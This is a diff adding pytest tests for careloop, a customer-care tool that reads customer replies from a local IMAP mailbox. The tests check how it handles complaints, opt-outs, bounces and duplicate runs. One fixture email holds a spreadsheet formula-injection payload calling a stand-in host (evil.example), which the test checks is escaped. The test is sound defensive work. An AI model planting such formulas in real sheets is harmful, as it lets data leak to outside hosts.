@@ -1,0 +1,160 @@
+"""Issue 25 (first part): careloop listens by email. A real IMAP server (Dovecot, on 127.0.0.1, its
+mailbox filled by writing files into Maildir/new) holds what customers sent back; the escalation
+run takes each message once — across runs, and two runs at once — and acts: a complaint opens a
+case, "HỦY" records the opt-out, a bounce notes the row, an out-of-office is only counted; every
+message gets a row in the Replies tab. The mailbox is left as it was: staff read it too."""
+
+from __future__ import annotations
+
+import imaplib
+import json
+import threading
+
+import openpyxl
+import pytest
+
+from functions.adapters.sheets.xlsx import XlsxSheet
+from functions.core.sheet_layout import layouts
+from functions.core.tables import same_cell
+from tests.helpers import mails
+from tests.helpers.cli import careloop, careloop_process
+from tests.helpers.dovecot import PASSWORD, USER, Dovecot
+from tests.helpers.support import HEADER, local_settings, row, write_workbook
+
+NOW = "2026-11-25T10:00"  # a working Wednesday (24/11 is a holiday: Vietnam Cultural Day)
+CUSTOMERS = [
+    row("C-1", "Nguyễn Thị Lan", "chị", "lan@example.com", purchase="16/11/2026"),
+    row("C-2", "Trần Văn Hùng", "anh", "hung@example.com", birthday="25/11/1990"),
+    row("C-3", "Lê Văn Tám", "anh", "tam@example.com", purchase="16/11/2026"),
+    row("C-4", "Phạm Thu Hà", "chị", "ha@example.com"),
+]
+
+
+@pytest.fixture
+def mailbox():
+    with Dovecot() as server:
+        yield server
+
+
+def workbook(tmp_path):
+    path = write_workbook(tmp_path / "k.xlsx", HEADER, CUSTOMERS)
+    XlsxSheet(path).prepare(layouts("vi"), "vi")
+    book = openpyxl.load_workbook(path)
+    book["Ma trận leo thang"]["B2"] = "Hà <ha@luat.vn>"
+    book["Ma trận leo thang"]["D2"] = "Giám đốc <gd@luat.vn>"
+    book.save(path)
+    return path
+
+
+def settings(tmp_path, path, server):
+    return local_settings(tmp_path, path, imap_host="127.0.0.1", imap_port=str(server.port), imap_security="none",
+                          imap_user=USER, imap_password=PASSWORD)  # fmt: skip
+
+
+def fill(server):
+    history = "\n".join(f"> dòng {n} của thư trước" for n in range(200))
+    for raw in (
+        mails.reply("Nguyễn Thị Lan <lan@example.com>", "Sản phẩm bị lỗi, tôi rất không hài lòng",
+                    message_id="<c1@ex>"),
+        mails.reply("hung@example.com", "HỦY", message_id="<c2@ex>"),
+        mails.reply("ha@example.com", "Tôi đang nghỉ phép đến 30/11", message_id="<c3@ex>",
+                    subject="Trả lời tự động: Hỏi thăm", Auto_Submitted="auto-replied"),
+        mails.bounce("tam@example.com", "checkin/C-3/2026-11-16", "<c4@mx>"),
+        mails.reply("ha@example.com", f"Cảm ơn văn phòng.\n\nVào 23/11/2026 Văn phòng đã viết:\n{history}",
+                    message_id="<c5@ex>"),
+        mails.reply("ha@example.com", '=IMPORTXML("http://evil.example/x", "//a")', message_id="<c6@ex>"),
+        mails.with_attachment("ha@example.com", "Ảnh đây ạ", "<c7@ex>"),
+        mails.windows_1258("ha@example.com", "Nhân viên rất nhiệt tình", "<c8@ex>"),
+        mails.reply("nguoi.la@example.org", "Cho tôi hỏi giá dịch vụ", message_id="<c9@ex>", charset="utf-8",
+                    cte="base64"),
+    ):  # fmt: skip
+        server.deliver(raw)
+
+
+def replies_tab(path):
+    sheet = openpyxl.load_workbook(path)["Phản hồi"]
+    rows = list(sheet.iter_rows(values_only=True))
+    return [dict(zip(rows[0], r, strict=False)) for r in rows[1:] if r[0]]
+
+
+def escalate(tmp_path, env):
+    result = careloop("run", "escalate", "--json", "--now", NOW, cwd=tmp_path, env=env)
+    assert result.returncode == 0, result.stderr
+    return json.loads(result.stdout)
+
+
+def unseen(server) -> int:
+    connection = imaplib.IMAP4("127.0.0.1", server.port)
+    connection.login(USER, PASSWORD)
+    connection.select("INBOX", readonly=True)
+    _, found = connection.search(None, "UNSEEN")
+    connection.logout()
+    return len(found[0].split())
+
+
+def test_each_message_ends_where_it_should_once_across_two_runs(tmp_path, mailbox):
+    path = workbook(tmp_path)
+    env = settings(tmp_path, path, mailbox)
+    fill(mailbox)
+    first = escalate(tmp_path, env)
+    assert first["replies"] == {"auto_reply": 1, "bounce": 1, "complaint": 1, "refusal": 1, "reply": 5}
+    (case,) = first["opened"]
+    assert case["customer_id"] == "C-1" and case["owner"] == "Hà <ha@luat.vn>"
+    assert [n["to"] for n in first["notified"]] == ["ha@luat.vn"]  # the owner's email, as for a ticked row
+    rows = {r["Mã phản hồi"]: r for r in replies_tab(path)}
+    assert len(rows) == 9
+    by_text = {r["Nội dung"]: r for r in rows.values()}
+    complaint = by_text["Sản phẩm bị lỗi, tôi rất không hài lòng"]
+    assert complaint["Mã KH"] == "C-1" and case["case_id"] in complaint["careloop đã làm"]
+    assert "từ chối nhận tin" in by_text["HỦY"]["careloop đã làm"]
+    assert "Cảm ơn văn phòng." in by_text and '\'=IMPORTXML("http://evil.example/x", "//a")' in by_text
+    assert "Ảnh đây ạ" in by_text and "Nhân viên rất nhiệt tình" in by_text
+    assert by_text["Cho tôi hỏi giá dịch vụ"]["Mã KH"] is None  # an unknown sender: a row for staff
+    bounce = next(r for r in rows.values() if r["Trả lời tin"] == "checkin/C-3/2026-11-16")
+    assert bounce["Mã KH"] == "C-3" and "5.1.1" in bounce["careloop đã làm"]
+    assert same_cell(complaint["Thời gian"], __import__("datetime").datetime(2026, 11, 24, 9, 30))
+    second = escalate(tmp_path, env)
+    assert second["replies"] == {} and second["opened"] == [] and len(replies_tab(path)) == 9
+    assert unseen(mailbox) == 9  # nothing marked read, moved or deleted: staff read this mailbox too
+
+
+def test_the_refusal_stops_the_next_message_and_the_bounce_notes_the_row(tmp_path, mailbox):
+    path = workbook(tmp_path)
+    env = settings(tmp_path, path, mailbox)
+    fill(mailbox)
+    escalate(tmp_path, env)
+    result = careloop("run", "followup", "--json", "--now", "2026-11-25T11:00", cwd=tmp_path, env=env)
+    report = json.loads(result.stdout)
+    assert "C-2" not in {s["customer_id"] for s in report["sent"]}  # Hùng's birthday: he said HỦY
+    customers = {r[0]: r for r in openpyxl.load_workbook(path)["Khách hàng"].iter_rows(min_row=2, values_only=True)}
+    header = [c.value for c in openpyxl.load_workbook(path)["Khách hàng"][1]]
+    assert customers["C-2"][header.index("Từ chối nhận tin")] is True
+    note = customers["C-3"][header.index("Ghi chú hệ thống")]
+    assert "không tới được" in note and "mailbox does not exist" in note, customers["C-3"]
+
+
+def test_two_runs_at_once_take_each_message_once(tmp_path, mailbox):
+    path = workbook(tmp_path)
+    env = settings(tmp_path, path, mailbox)
+    fill(mailbox)
+    results = []
+
+    def run():
+        results.append(careloop_process("run", "escalate", "--json", "--now", NOW, cwd=tmp_path, env=env))
+
+    threads = [threading.Thread(target=run) for _ in range(2)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert all(r.returncode == 0 for r in results), [r.stderr for r in results]
+    assert len(replies_tab(path)) == 9
+    opened = [o for r in results for o in json.loads(r.stdout)["opened"]]
+    assert len({o["case_id"] for o in opened}) == 1
+
+
+def test_a_mailbox_that_refuses_the_login_is_said_and_the_run_goes_on(tmp_path, mailbox):
+    path = workbook(tmp_path)
+    env = {**settings(tmp_path, path, mailbox), "CARELOOP_IMAP_PASSWORD": "wrong-password"}
+    report = escalate(tmp_path, env)
+    assert "127.0.0.1" in report["replies"]["error"] and report["write_back"].get("error") is None
